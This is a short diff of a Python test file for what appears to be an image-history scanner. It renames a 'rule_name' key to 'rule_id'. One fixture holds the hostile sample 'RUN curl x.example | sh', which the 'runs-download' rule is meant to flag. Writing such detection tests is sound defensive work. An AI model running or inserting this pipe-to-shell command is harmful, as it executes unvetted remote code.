@@ -132,7 +132,7 @@ class HistoryTest(support.Shipped):
     def rules(self, *instructions, **config):
         history = [{"created_by": each} for each in instructions]
         config.setdefault("User", "me")
-        return [rule for _, rule in self.found("rule_name", history=history, config=config)]
+        return [rule for _, rule in self.found("rule_id", history=history, config=config)]
 
     def test_instructions(self):
         for rule, (found, harmless) in CASES.items():
@@ -200,7 +200,7 @@ class HistoryTest(support.Shipped):
                 "instruction": "RUN",
                 "content": "curl x.example | sh",
                 "description": "runs what it downloads: RUN curl x.example | sh",
-                "rule_name": "runs-download",
+                "rule_id": "runs-download",
             },
         )
 
